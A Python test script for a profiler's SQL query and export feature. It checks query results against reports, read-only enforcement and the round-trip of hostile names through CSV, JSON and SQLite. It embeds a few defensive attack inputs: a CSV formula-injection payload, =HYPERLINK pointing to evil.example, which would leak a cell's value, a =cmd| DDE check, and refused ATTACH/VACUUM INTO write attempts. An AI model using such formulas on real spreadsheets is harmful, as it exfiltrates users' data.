#!/usr/bin/env python3
"""ludus-trace sql and its exports (docs/sql.md).
  - every query of docs/sql.md runs on fresh demo captures, and its result
    agrees with what ludus-trace report --json (or a recomputation in Python
    from the base tables) says;
  - docs/sql.md's schema is `ludus-trace sql --schema`, byte for byte;
  - many captures as one set (a directory), the prompt, -o;
  - hostile names (quotes, control characters, invalid UTF-8, 1 MB) round-trip
    through CSV, JSON and JSON Lines against the Chrome JSON export, and the
    terminal table shows no control character;
  - a damaged capture fails as report fails: exit 2, the offset named;
  - convert to .sqlite (read back by Python's sqlite3) and to CSV and JSON
    Lines, read back by DuckDB (tests/sql/check_duckdb.mjs: an engine other
    than SQLite; skipped with a message where node or its package is
    missing, failed in CI, LUDUS_CI=1).
usage: check_sql.py DEMO LUDUS_TRACE HOSTILE_NAMES WORKDIR ROOT"""
import csv, io, json, os, re, shutil, sqlite3, stat, subprocess, sys, time

demo, tool, hostile, work, root = sys.argv[1:6]
shutil.rmtree(work, ignore_errors=True)
os.makedirs(os.path.join(work, "playtests"))
failures = []


def check(cond, what):
    if not cond:
        failures.append(what)
        print("FAIL:", what)


def run(*args, stdin=None, cwd=work):
    p = subprocess.run([tool, *args], capture_output=True, cwd=cwd, input=stdin)
    return p.returncode, p.stdout, p.stderr.decode("utf-8", "replace")


def sql(target, query, *opts):
    rc, out, err = run("sql", target, query, "--json", *opts)
    assert rc == 0, (query, err)
    res = []
    for m in re.finditer(rb"^\[(?:\]|\n.*?^\])$", out, re.S | re.M):
        res.append(json.loads(m.group(0)))
    return res


def csv_undefuse(cell):
    """A CSV cell's text as the capture holds it: one ' off a defused formula (docs/sql.md)."""
    return cell[1:] if re.match(r"'+[=+\-@\t\r]", cell) else cell


def one(target, query):
    return sql(target, query)[0]


# ---- captures: one for the single-capture queries, three in a directory ----
for i in range(1, 4):
    subprocess.run([demo, "--trace", os.path.join(work, "playtests", "run%d.json" % i), "--frames", "60"],
                   check=True, capture_output=True)
    os.remove(os.path.join(work, "playtests", "run%d.json" % i))
shutil.copy(os.path.join(work, "playtests", "run1.ludus"), os.path.join(work, "demo.ludus"))
reports = {}
for name in ["demo.ludus"] + ["playtests/run%d.ludus" % i for i in range(1, 4)]:
    rc, out, err = run("report", name, "--json")
    assert rc == 0, err
    reports[name] = json.loads(out)
rep = reports["demo.ludus"]


def sites(name):
    return [s for s in rep["sites"] if s["name"] == name]


def nearest_rank(v, p):
    v = sorted(v)
    k = -(-p * len(v) // 100)
    return v[max(int(k), 1) - 1]


# ---- the checks of the doc queries, by name ----
def c_per_scope(res, q):
    for r in res[0]:
        ss = sites(r["name"])
        check(r["calls"] == sum(s["calls"] for s in ss), "per_scope: calls of %s" % r["name"])
        if all(s["recursive"] == 0 for s in ss):
            check(r["total_ns"] == sum(s["inclusive"]["total_ns"] for s in ss), "per_scope: total of %s" % r["name"])
            check(r["max_ns"] == max(s["inclusive"]["max_ns"] for s in ss), "per_scope: max of %s" % r["name"])


def c_frame_times(res, q):
    r, t = res[0][0], rep["frames"]["time"]
    check(r["frames"] == rep["frames"]["complete"], "frame_times: frames")
    for k in ("p50", "p90", "p99", "max"):
        check(r[k + "_ns"] == t[k + "_ns"], "frame_times: %s %s vs report %s" % (k, r[k + "_ns"], t[k + "_ns"]))


def base(target="demo.ludus"):
    b = {}
    b["slice"] = one(target, "SELECT capture_id, id, ts, dur, name, utid, frame FROM slice")
    b["fc"] = one(target, "SELECT fc.capture_id, fc.frame, fc.value FROM frame_counter fc JOIN counter_track ct "
                  "ON ct.capture_id = fc.capture_id AND ct.id = fc.track_id WHERE ct.name = 'DrawCalls' "
                  "AND ct.series = 'per frame'")
    return b


def c_render_p99(res, q):
    b = base()
    draws = {r["frame"]: r["value"] for r in b["fc"]}
    durs = [s["dur"] for s in b["slice"] if s["name"] == "Render" and draws.get(s["frame"], 0) > 400]
    r = res[0][0]
    check(r["renders"] == len(durs) and len(durs) > 0, "render_p99: renders %s vs %d" % (r["renders"], len(durs)))
    check(durs and r["render_p99_ns"] == nearest_rank(durs, 99), "render_p99: p99")
    check(durs and r["render_p50_ns"] == nearest_rank(durs, 50), "render_p99: p50")
    # the frames' DrawCalls are the report's: same mean over complete frames
    dc = [c for c in rep["counters"] if c["name"] == "DrawCalls" and c["series"] == "per frame"][0]
    complete = {f["id"] for f in one("demo.ludus", "SELECT id FROM frame WHERE complete")}
    vals = [v for f, v in draws.items() if f in complete]
    check(abs(sum(vals) / len(vals) - dc["mean"]) < 1e-9, "render_p99: DrawCalls mean vs report")


def c_longest_job(res, q):
    b = base()
    threads = {t["utid"]: t["name"] for t in one("demo.ludus", "SELECT utid, name FROM thread")}
    loaded = min(a["ts"] + a["dur"] for a in one("demo.ludus", "SELECT ts, dur FROM async_slice WHERE name = 'Load chunk'"))
    jobs = [s for s in b["slice"] if threads[s["utid"]] == "Worker 3" and s["name"].startswith("Job:") and s["ts"] >= loaded]
    best = max(jobs, key=lambda s: s["dur"])
    check(len(res[0]) == 1 and res[0][0]["dur"] == best["dur"] and res[0][0]["name"] == best["name"], "longest_job")
    zones = [z for z in rep["async"] if z["name"] == "Load chunk"][0]
    check(zones["zones"] >= 1, "longest_job: the report has the zones")


def c_lock_frames(res, q):
    rows = res[0]
    for i in range(1, 4):
        path = "playtests/run%d.ludus" % i
        waits = one("playtests", "SELECT w.frame, w.dur FROM lock_wait w JOIN capture c ON c.id = w.capture_id "
                    "WHERE c.path = '%s' AND w.lock = 'JobQueue'" % path)
        lk = [l for l in reports[path]["locks"] if l["name"] == "JobQueue"]
        check(len(waits) == (lk[0]["waits"] if lk else 0), "lock_frames: waits of %s vs report" % path)
        check(sum(w["dur"] for w in waits) == (lk[0]["wait"]["total_ns"] if lk else 0), "lock_frames: total of %s" % path)
        per = {}
        for w in waits:
            per[w["frame"]] = per.get(w["frame"], 0) + w["dur"]
        want = sorted(f for f, d in per.items() if d > 50000)
        got = sorted(r["frame"] for r in rows if r["path"] == path)
        check(want == got, "lock_frames: frames of %s: %s vs %s" % (path, got, want))


def c_hitches(res, q):
    check(sorted(r["frame"] for r in res[0]) == sorted(h["frame"] for h in rep["hitches"]), "hitches: frames")


def c_paths(res, q):
    by = {p["path"]: p for p in rep["paths"]}
    for r in res[0]:
        p = by.get(r["path"])
        check(p is not None and p["calls"] == r["calls"] and p["exclusive"]["total_ns"] == r["self_total"],
              "paths: %s" % r["path"])


def c_logs(res, q):
    m = rep["messages"]
    check(len(res[0]) == m["warning"] + m["error"], "logs: count")
    check([r["msg"] for r in res[0]][:len(m["first"])] == [f["text"] for f in m["first"]], "logs: texts")


def c_flows(res, q):
    check(sum(r["jobs"] for r in res[0]) == sum(s["calls"] for s in sites("Submit")), "flows: one per Submit")
    check(all(r["mean_latency_ns"] >= 0 for r in res[0]), "flows: latency >= 0")


def c_annotations(res, q):
    ex = sites("Execute")[0]
    check(res[0][0]["dur"] == ex["inclusive"]["max_ns"], "annotations: the slowest Execute")
    n = one("demo.ludus", "SELECT count(*) AS n FROM args WHERE key = 'CostUs'")[0]["n"]
    check(n == ex["annotated"], "annotations: annotated calls %d vs report %d" % (n, ex["annotated"]))


def c_async(res, q):
    for r in res[0]:
        a = [z for z in rep["async"] if z["track"] == r["track"] and z["name"] == r["name"]][0]
        check(a["zones"] == r["zones"] and a["cross_thread"] == r["cross_thread"], "async: %s" % r["name"])
        check(abs(a["duration"]["mean_ns"] - r["mean_ns"]) <= 1, "async: mean of %s" % r["name"])


def c_counters(res, q):
    for r in res[0]:
        c = [c for c in rep["counters"] if c["name"] == r["name"] and c["series"] == r["series"]][0]
        check(c["values"] == r["frames"] and abs(c["mean"] - r["mean"]) < 1e-9 and c["max"] == r["max"],
              "counters: %s" % r["name"])
    lost = {r["what"]: r["count"] for r in res[1]}
    check(lost.get("events dropped") == rep["capture"]["dropped"], "counters: events dropped vs report")
    check(lost.get("ends whose begin is not in the capture") == rep["capture"]["orphan_ends"], "counters: orphan ends")
    check(lost.get("run-time names and sites refused") == rep["capture"]["interner_drops"], "counters: names refused")


CHECKS = {k[2:]: v for k, v in globals().items() if k.startswith("c_")}

doc = open(os.path.join(root, "docs", "sql.md"), encoding="utf-8").read()
# (the fleet's DuckDB blocks are check_fleet.py's)
queries = re.findall(r"```sql\n(.*?)```", re.sub(r"<!-- fleet: \w+ -->\n```\w*\n.*?```", "", doc, flags=re.S), re.S)
check(len(queries) >= 10, "docs/sql.md has %d queries (10 at least)" % len(queries))
seen = set()
for q in queries:
    name = re.search(r"^-- check: (\w+)", q, re.M)
    cap = re.search(r"^-- captures: (\S+)", q, re.M)
    check(name and name.group(1) in CHECKS, "a doc query without a known check: %s" % q[:60])
    if not name or name.group(1) not in CHECKS:
        continue
    seen.add(name.group(1))
    res = sql(cap.group(1) if cap else "demo.ludus", q)
    # lock waits depend on the scheduler: a quiet run may have none over the
    # threshold (c_lock_frames compares with report's figures either way)
    check(all(res) or name.group(1) in ("lock_frames",), "%s: every result has rows" % name.group(1))
    CHECKS[name.group(1)](res, q)
check(seen == set(CHECKS), "checks without a doc query: %s" % (set(CHECKS) - seen))

# ---- the schema in the docs is --schema's ----
rc, out, _ = run("sql", "--schema")
m = re.search(r"<!-- ludus-trace sql --schema -->\n```text\n(.*?)```", doc, re.S)
check(rc == 0 and m and m.group(1) == out.decode(), "docs/sql.md's schema block is `ludus-trace sql --schema`")

# ---- many captures, the prompt, -o, the output kinds ----
caps = one("playtests", "SELECT id, path FROM capture ORDER BY id")
check([c["path"] for c in caps] == ["playtests/run%d.ludus" % i for i in range(1, 4)], "a directory: its files, sorted")
total = sum(one("playtests/run%d.ludus" % i, "SELECT count(*) AS n FROM slice")[0]["n"] for i in range(1, 4))
check(one("playtests", "SELECT count(*) AS n FROM slice")[0]["n"] == total, "many captures: every slice")
rc, out, err = run("sql", "demo.ludus", stdin=b"SELECT count(*) AS n FROM thread;\n.tables\nSELECT\n 1 AS one;\n")
check(rc == 0 and out.startswith(b"n\r\n4\r\n") and b"\nslice\n" in out and out.endswith(b"one\r\n1\r\n"),
      "the prompt: statements from standard input (%r)" % out[:80])
rc, _, _ = run("sql", "demo.ludus", "SELECT name FROM thread ORDER BY utid", "-o", "threads.csv")
names = [r["name"] for r in one("demo.ludus", "SELECT name FROM thread ORDER BY utid")]
check(rc == 0 and open(os.path.join(work, "threads.csv"), newline="").read() == "name\r\n" + "".join(n + "\r\n" for n in names),
      "-o OUT")
rc, _, err = run("sql", "demo.ludus", "SELECT nosuch FROM slice")
check(rc == 1 and "no such column" in err, "an SQL error: said, exit 1")

# ---- queries only read: nothing attached, written or vacuumed into a file ----
for q in ("ATTACH DATABASE 'pwn.db' AS x; CREATE TABLE x.t(a)", "VACUUM INTO 'copy.db'", "VACUUM",
          "CREATE TABLE t(a)", "CREATE TEMP TABLE t(a)", "DELETE FROM slice", "INSERT INTO site(id) VALUES (1)",
          "PRAGMA journal_mode = WAL", "SELECT 1; ATTACH 'pwn2.db' AS y"):
    rc, _, err = run("sql", "demo.ludus", q)
    check(rc == 1 and "refused: queries only read" in err, "read-only: %s: rc %d %s" % (q, rc, err))
    rc, _, err = run("sql", "demo.ludus", stdin=(q + ";\n").encode())
    check("refused: queries only read" in err, "read-only at the prompt: %s: %s" % (q, err))
check(not [f for f in os.listdir(work) if f.endswith(".db")], "read-only: no file made: %s" % os.listdir(work))
check(one("demo.ludus", "PRAGMA table_info(slice)")[0]["name"] == "capture_id", "read-only: table_info still reads")
check(one("demo.ludus", "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3) "
                        "SELECT count(*) AS c FROM n")[0]["c"] == 3, "read-only: a recursive query runs")

# ---- hostile names round-trip ----
subprocess.run([hostile, os.path.join(work, "hostile")], check=True, capture_output=True)
rc, _, err = run("convert", "hostile.ludus", "hostile.json")
assert rc == 0, err
trace = json.load(open(os.path.join(work, "hostile.json"), encoding="utf-8"))
want = sorted({e["name"] for e in trace["traceEvents"] if e.get("ph") in ("X", "B") and e.get("cat") not in ("flow", "async")})
zones = sorted({e["name"] for e in trace["traceEvents"] if e.get("ph") == "X" and e.get("cat") == "async"})
check(sorted(r["name"] for r in one("hostile.ludus", "SELECT DISTINCT name FROM async_slice")) == zones,
      "hostile: async zone names are the JSON export's")
got_json = [r["name"] for r in one("hostile.ludus", "SELECT DISTINCT name FROM slice ORDER BY name")]
check(sorted(got_json) == want, "hostile: slice names through --json are the JSON export's")
rc, out, _ = run("sql", "hostile.ludus", "SELECT DISTINCT name FROM slice", "--csv")
raw_csv = [r[0] for r in csv.reader(io.StringIO(out.decode("utf-8"), newline=""))][1:]
# a text a spreadsheet would run starts with ' (docs/sql.md): none is left bare, and one ' off gives it back
check(not [c for c in raw_csv if re.match(r"[=+\-@\t\r]", c)], "hostile: a CSV cell a spreadsheet would run")
check([c for c in raw_csv if c.startswith("'=cmd|")], "hostile: =cmd|... defused with a '")
got_csv = [csv_undefuse(c) for c in raw_csv]
check(sorted(got_csv) == want, "hostile: names through CSV")
rc, out, _ = run("sql", "demo.ludus", "SELECT '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")' AS a, "
                 "'-2' AS b, -2 AS c, '''+x' AS d, char(9) || '=1' AS e, 'plain' AS f", "--csv")
check(out == b'a,b,c,d,e,f\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","\'-2",-2,"\'\'+x",'
      b'"\'\t=1",plain\r\n', "CSV: formulas defused, numbers kept (%r)" % out)
# CSV on a terminal: control characters shown, never sent (a pty as standard output)
import pty
master, slave = pty.openpty()
p = subprocess.Popen([tool, "sql", "hostile.ludus", "SELECT DISTINCT name FROM slice", "--csv"], cwd=work,
                     stdout=slave, stderr=subprocess.PIPE)
os.close(slave)
tty_out = b""
while True:
    try:
        chunk = os.read(master, 65536)
    except OSError:
        break
    if not chunk:
        break
    tty_out += chunk
p.wait()
os.close(master)
bad = [c for c in tty_out.decode("utf-8", "replace") if (ord(c) < 0x20 and c not in "\r\n") or 0x7F <= ord(c) < 0xA0]
check(p.returncode == 0 and b"x1b" in tty_out and not bad, "CSV on a terminal: no control character sent (%r)" % bad[:5])
rc, out, _ = run("sql", "hostile.ludus", "SELECT DISTINCT name FROM slice", "--jsonl")
check(sorted(json.loads(l)["name"] for l in out.decode().split("\n") if l) == want, "hostile: names through JSON Lines")
rc, out, _ = run("sql", "hostile.ludus", "SELECT name, category FROM slice UNION ALL SELECT msg, level FROM log", "--table")
bad = [c for c in out.decode("utf-8") if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0]
check(rc == 0 and not bad, "hostile: the table shows no control character (%r)" % bad[:5])

# ---- a damaged capture fails as report does ----
data = bytearray(open(os.path.join(work, "demo.ludus"), "rb").read())
data[len(data) // 2] ^= 0xFF
open(os.path.join(work, "bad.ludus"), "wb").write(data)
rc, _, err = run("sql", "bad.ludus", "SELECT 1")
rrc, _, rerr = run("report", "bad.ludus")
check(rc == 2 and "offset" in err and err.replace("ludus-trace sql", "ludus-trace report") == rerr,
      "a damaged capture: exit 2 and report's message (%r)" % err)

# ---- exports ----
rc, _, err = run("convert", "demo.ludus", "demo.sqlite")
check(rc == 0, "convert to .sqlite: %s" % err)
n_slices = one("demo.ludus", "SELECT count(*) AS n, sum(dur) AS d FROM slice")[0]
with sqlite3.connect(os.path.join(work, "demo.sqlite")) as db:
    check(db.execute("SELECT count(*), sum(dur) FROM slice").fetchone() == (n_slices["n"], n_slices["d"]),
          "the .sqlite file holds the slices")
# ---- cut, then tables (issue 38: --from/--to to .sqlite and CSV were refused) ----
whole = one("demo.ludus", "SELECT max(ts + dur) AS end_ts, count(*) AS n FROM slice")[0]
lo, hi = whole["end_ts"] // 3, 2 * whole["end_ts"] // 3
rc, _, err = run("convert", "demo.ludus", "cut.sqlite", "--from", "%dns" % lo, "--to", "%dns" % hi)
check(rc == 0, "convert --from/--to to .sqlite: %s" % err)
rc2, _, err2 = run("convert", "demo.ludus", "cutcsv", "--format", "csv", "--from", "%dns" % lo, "--to", "%dns" % hi)
check(rc2 == 0, "convert --from/--to to CSV: %s" % err2)
if rc == 0 and rc2 == 0:
    with sqlite3.connect(os.path.join(work, "cut.sqlite")) as db:
        n, t0, t1 = db.execute("SELECT count(*), min(ts), max(ts + dur) FROM slice").fetchone()
    check(0 < n < whole["n"] and t0 >= lo and t1 <= hi,
          "the cut's tables hold its slices only: %d of %d, [%s, %s] within [%d, %d]" % (n, whole["n"], t0, t1, lo, hi))
    with open(os.path.join(work, "cutcsv", "slice.csv"), newline="") as f:
        check(sum(1 for _ in csv.DictReader(f)) == n, "the CSV cut holds the .sqlite cut's slices")
rc, _, err = run("convert", "demo.ludus", "cut2.sqlite", "--threads", "1")
check(rc == 1 and "--threads, --raw and --uncompressed need a capture output" in err, "--threads with tables: refused (%s)" % err)
# ---- devices, FIFOs and links: written and read by the one rule (docs/sql.md) ----
import threading
fifo = os.path.join(work, "out-fifo.sqlite")
os.mkfifo(fifo)
got = {}
t = threading.Thread(target=lambda: got.setdefault("data", open(fifo, "rb").read()), daemon=True)
t.start()
rc, _, err = run("convert", "demo.ludus", fifo, "--format", "sqlite")
t.join(60)
check(rc == 0 and os.path.exists(fifo) and stat.S_ISFIFO(os.lstat(fifo).st_mode),
      "convert --format sqlite into a FIFO: written in place, still a FIFO (%s)" % err)
check(got.get("data", b"").startswith(b"SQLite format 3\0"), "the FIFO's reader got the database")
target = os.path.join(work, "target.sqlite")
link = os.path.join(work, "link.sqlite")
os.symlink("target.sqlite", link)
rc, _, err = run("convert", "demo.ludus", link)
check(rc == 0 and os.path.islink(link) and open(target, "rb").read(16) == b"SQLite format 3\0",
      "convert to .sqlite through a link: the link kept, its target written (%s)" % err)
# a device node of our own (root only): a regression replaces it, never /dev/full itself
full = os.path.join(work, "full.sqlite")
try:
    os.mknod(full, 0o666 | stat.S_IFCHR, os.makedev(1, 7))  # as /dev/full
except OSError as e:
    print("skip: the device check needs mknod (%s)" % e)
else:
    rc, _, err = run("convert", "demo.ludus", full, "--format", "sqlite")
    check(rc != 0 and stat.S_ISCHR(os.lstat(full).st_mode) and "No space" in err,
          "convert --format sqlite into a full device: a write error, the device kept (%s)" % err)
check(not [f for f in os.listdir(work) if "tmp" in f], "no temporary left: %s" % os.listdir(work))
# a FIFO named *.ludus: read as a pipe is (it is given, so it is waited on, as "-" is); in a
# directory it is skipped, never waited on (the bounds only catch a hang)
lfifo = os.path.join(work, "fifo-dir")
os.makedirs(lfifo)
os.mkfifo(os.path.join(lfifo, "a.ludus"))
shutil.copy(os.path.join(work, "demo.ludus"), os.path.join(lfifo, "b.ludus"))
demo_bytes = open(os.path.join(work, "demo.ludus"), "rb").read()


def feed(path):
    # The writer comes late, as on a busy machine: the reader waits for it
    # (it read an empty file before, 2 runs in 10 beside two burners).
    time.sleep(0.5)
    with open(path, "wb") as f:
        f.write(demo_bytes)


for args in (("info", "fifo-dir/a.ludus"), ("report", "fifo-dir/a.ludus")):
    t = threading.Thread(target=feed, args=(os.path.join(lfifo, "a.ludus"),), daemon=True)
    t.start()
    try:
        p = subprocess.run([tool, *args], capture_output=True, cwd=work, timeout=120)
        check(p.returncode == 0, "%s on a FIFO with a writer: read as a pipe (%r)" % (args[0], p.stderr))
    except subprocess.TimeoutExpired:
        check(False, "%s on a FIFO with a writer hangs" % args[0])
    t.join(60)
try:
    p = subprocess.run([tool, "sql", "fifo-dir", "SELECT count(*) AS n FROM capture"], capture_output=True, cwd=work,
                       timeout=60)
    check(p.returncode == 0 and p.stdout == b"n\r\n1\r\n" and b"not a regular file, skipped" in p.stderr,
          "sql DIR with a FIFO: skipped, said (%r %r)" % (p.stdout, p.stderr))
except subprocess.TimeoutExpired:
    check(False, "sql DIR with a FIFO hangs")
# a pipe works wherever - does
if shutil.which("bash"):
    for cmd in ("info <(cat demo.ludus)", "report <(cat demo.ludus)",
                "sql <(cat demo.ludus) <(cat playtests/run2.ludus) 'SELECT count(*) AS n FROM capture'",
                "convert <(cat demo.ludus) piped.json"):
        p = subprocess.run(["bash", "-c", "exec %s %s" % (tool, cmd)], capture_output=True, cwd=work, timeout=120)
        check(p.returncode == 0, "a pipe as input: %s: %r" % (cmd, p.stderr))
        if cmd.startswith("sql"):
            check(p.stdout == b"n\r\n2\r\n", "two pipes as inputs: %r" % p.stdout)

node = shutil.which("node")
pkg = os.path.join(root, "tests", "sql", "node_modules", "@duckdb", "node-api")
if not node or not os.path.isdir(pkg):
    msg = "DuckDB read-back skipped: %s (scripts/ensure-sql-deps.sh installs it)" % ("no node" if not node else pkg + " missing")
    print(msg)
    check(os.environ.get("LUDUS_CI") != "1", "in CI: " + msg)
else:
    for target, fmt in (("demo.ludus", "csv"), ("demo.ludus", "jsonl"), ("hostile.ludus", "csv"), ("hostile.ludus", "jsonl")):
        out_dir = target.split(".")[0] + "-" + fmt
        rc, _, err = run("convert", target, out_dir, "--format", fmt)
        check(rc == 0, "convert %s --format %s: %s" % (target, fmt, err))
        p = subprocess.run([node, os.path.join(root, "tests", "sql", "check_duckdb.mjs"), os.path.join(work, out_dir)],
                           capture_output=True, text=True)
        check(p.returncode == 0, "DuckDB reads %s: %s" % (out_dir, p.stderr[-500:]))
        if p.returncode:
            continue
        d = json.loads(p.stdout)
        ours = one(target, "SELECT count(*) AS n, sum(dur) AS dur FROM slice")[0]
        check(int(d["slices"][0]["n"]) == ours["n"] and int(d["slices"][0]["dur"]) == ours["dur"], "DuckDB %s: slices" % out_dir)
        if fmt == "csv":  # the CSV files hold defused formulas (docs/sql.md)
            d["names"] = [csv_undefuse(n) for n in d["names"]]
            d["threads"] = [csv_undefuse(n) for n in d["threads"]]
            d["messages"] = [csv_undefuse(n) for n in d["messages"]]
        check(sorted(d["names"]) == sorted(
            r["name"] for r in one(target, "SELECT DISTINCT name FROM slice")), "DuckDB %s: the names round-trip" % out_dir)
        check(d["threads"] == [r["name"] for r in one(target, "SELECT name FROM thread ORDER BY utid")], "DuckDB %s: threads" % out_dir)
        check(d["messages"] == [r["msg"] for r in one(target, "SELECT msg FROM log ORDER BY ts")], "DuckDB %s: messages" % out_dir)
        check(int(d["flows"][0]["n"]) == one(target, "SELECT count(*) AS n FROM flow")[0]["n"], "DuckDB %s: the flow view" % out_dir)

print("check_sql: %s" % ("ok" if not failures else "%d problems" % len(failures)))
sys.exit(1 if failures else 0)
